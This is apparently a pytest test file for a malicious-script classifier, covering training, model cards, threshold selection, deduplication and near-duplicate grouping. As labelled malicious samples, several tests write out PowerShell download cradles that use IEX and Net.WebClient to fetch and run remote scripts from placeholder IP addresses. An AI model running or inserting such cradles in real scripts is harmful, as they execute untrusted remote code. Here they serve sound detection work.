"""The script classifier: trained by command, saved with a model card, better than chance on held-out files."""

from __future__ import annotations

import random
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from phagocyte.analysers.classifier import ScriptClassifier, dedupe
from phagocyte.analysers.scan import Scanner
from phagocyte.cli.app import app
from tests.conftest import evaldata


def test_dedupe_drops_copies_and_contents_under_both_labels() -> None:
    texts, labels, stats = dedupe(["a", "a", "b", "c", "c"], [1, 1, 0, 1, 0])
    assert sorted(zip(texts, labels, strict=True)) == [("a", 1), ("b", 0)]
    assert stats == {"input": 5, "distinct": 3, "conflicting": 1}


def test_scan_train_command_writes_a_model_and_card(tmp_path: Path) -> None:
    mal, ben = tmp_path / "mal", tmp_path / "ben"
    mal.mkdir()
    ben.mkdir()
    for i in range(12):
        (mal / f"m{i}.ps1").write_text(f"$u{i} = 'http://198.51.100.{i}/p.ps1'\n"
                                       "IEX (New-Object Net.WebClient).DownloadString($u" + str(i) + ")\n")
        (ben / f"b{i}.ps1").write_text(f"param($Path{i})\nGet-ChildItem $Path{i} | Where-Object Length -gt {i}\n")
    model = tmp_path / "model"
    res = CliRunner().invoke(app, ["scan-train", "-l", "powershell", "--malicious", str(mal), "--benign", str(ben),
                                   "--model", str(model), "--licences", "written for this test",
                                   "--target-fpr", "0.0"])
    assert res.exit_code == 0, res.output
    card = (model / "MODEL_CARD.md").read_text()
    assert "written for this test" in card and "powershell" in card
    clf = ScriptClassifier.load(model)
    st = clf.meta["languages"]["powershell"]
    assert st["target_fpr"] == 0.0 and 0.05 <= st["threshold"] <= 0.95 and st["chars"] is False
    assert "threshold" in card
    v = Scanner(model=clf).scan_text("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')")
    assert any(r.source == "model" for r in v.reasons)
    assert clf.predict_proba_text("powershell", "Get-ChildItem C:\\ | Where-Object Length -gt 3") < 0.5


@pytest.mark.evaldata
def test_javascript_model_separates_held_out_files() -> None:
    from sklearn.metrics import roc_auc_score

    root = evaldata("javascript")
    rng = random.Random(6)
    mal = rng.sample(sorted((root / "javascript_malware_collection").rglob("*.js")), 90)
    ben = rng.sample(sorted((root / "benign_js_npm").rglob("*.js")), 90)
    data = [(p.read_text("latin-1"), 1) for p in mal] + [(p.read_text("latin-1"), 0) for p in ben]
    rng.shuffle(data)
    train, test = data[:120], data[120:]
    clf = ScriptClassifier()
    clf.fit("javascript", [t for t, _ in train], [y for _, y in train])
    p = clf.predict_proba("javascript", [t for t, _ in test])
    assert roc_auc_score(np.array([y for _, y in test]), p) > 0.9


def _toy(n: int, seed: int) -> tuple[list[str], list[int]]:
    """Hand-written PowerShell-like lines: downloaders vs file listings, with varied names."""
    rng = random.Random(seed)
    texts, labels = [], []
    for i in range(n):
        host = f"198.51.100.{rng.randrange(256)}"
        texts.append(f"$c{i} = New-Object Net.WebClient; IEX $c{i}.DownloadString('http://{host}/{i}.ps1')")
        labels.append(1)
        texts.append(f"Get-ChildItem C:\\Logs\\{i} -Recurse | Where-Object Length -gt {rng.randrange(9999)}")
        labels.append(0)
    return texts, labels


def test_to_score_is_monotone_and_puts_the_threshold_on_the_malicious_cut() -> None:
    from phagocyte.analysers.classifier import to_score

    p = np.array([0.01, 0.1, 0.3, 0.5, 0.9, 0.999])
    s = to_score(p, 0.3)
    assert np.all(np.diff(s) > 0)
    assert abs(float(to_score(np.array([0.3]), 0.3)[0]) - 0.7) < 1e-6
    assert abs(float(to_score(np.array([0.5]), 0.5)[0]) - 0.7) < 1e-6


def test_threshold_is_fitted_inside_the_training_data_and_drives_the_score() -> None:
    texts, labels = _toy(40, 1)
    clf = ScriptClassifier()
    stats = clf.fit("powershell", texts, labels, chars=True)
    t = clf.threshold("powershell")
    assert stats["threshold"] == round(t, 4) and 0.05 <= t <= 0.95
    held, held_y = _toy(20, 2)
    p = clf.predict_proba("powershell", held)
    s = clf.score("powershell", held)
    # the verdict's cut (0.7) on the score is the fitted threshold on the probability
    assert ((s >= 0.7) == (p >= t)).all()
    assert ((s >= 0.7) == np.array(held_y, dtype=bool)).mean() > 0.9


def test_model_saved_without_a_threshold_falls_back_to_one_half() -> None:
    texts, labels = _toy(10, 3)
    clf = ScriptClassifier()
    clf.fit("powershell", texts, labels, chars=False)
    del clf.meta["languages"]["powershell"]["threshold"]
    assert clf.threshold("powershell") == 0.5


def test_choose_threshold_keeps_inner_false_positives_at_the_target() -> None:
    from phagocyte.analysers.classifier import choose_threshold

    texts, labels = _toy(60, 4)
    # label noise: some listings marked malicious, so the threshold must move off the easy cut
    y = np.array(labels)
    y[1:40:8] = 1
    t = choose_threshold(texts, y, chars=False, target_fpr=0.0)
    assert 0.05 <= t <= 0.95
    assert choose_threshold(texts[:6], np.array(labels[:6]), chars=False) == 0.5  # too small to split


def test_near_duplicate_groups_join_near_copies_and_keep_unrelated_scripts_apart() -> None:
    from phagocyte.analysers.classifier import near_duplicate_groups

    tool = "\n".join(f"function Invoke-Step{i} {{ param([string]$T{i}) Get-Item $T{i} | Out-File log{i}.txt }}"
                     for i in range(40))
    banner = "# copied with a new banner\n" + tool.replace("log39.txt", "out39.txt")  # a near-copy, other bytes
    other = ("$c = New-Object Net.WebClient; $c.Headers.Add('User-Agent', 'Mozilla/5.0'); $c.Proxy = "
             "[Net.WebRequest]::DefaultWebProxy; IEX $c.DownloadString('http://198.51.100.7/a.ps1')")
    chain_a = other.replace("a.ps1", "b.ps1")
    texts = [tool, other, banner, "", "", chain_a, "Get-Process | Sort-Object CPU"]
    g = near_duplicate_groups(texts)
    assert len(g) == len(texts)
    assert g[0] == g[2]  # the copy with a changed banner and one changed name
    assert g[1] == g[5]  # the same cradle fetching another file
    assert g[3] == g[4]  # texts with no words: joined by their normalised text
    assert len({g[0], g[1], g[3], g[6]}) == 4
    assert near_duplicate_groups([]) == []
    # a stricter threshold separates what the default joins
    strict = near_duplicate_groups(texts, threshold=0.999)
    assert strict[1] != strict[5]


def test_near_duplicate_groups_work_block_by_block() -> None:
    from phagocyte.analysers.classifier import near_duplicate_groups

    texts, _ = _toy(30, 5)
    copies = texts + [t + " " for t in texts]  # each text again, with trailing whitespace
    whole = near_duplicate_groups(copies)
    blocks = near_duplicate_groups(copies, block=7)
    assert whole == blocks
    assert all(whole[i] == whole[i + len(texts)] for i in range(len(texts)))
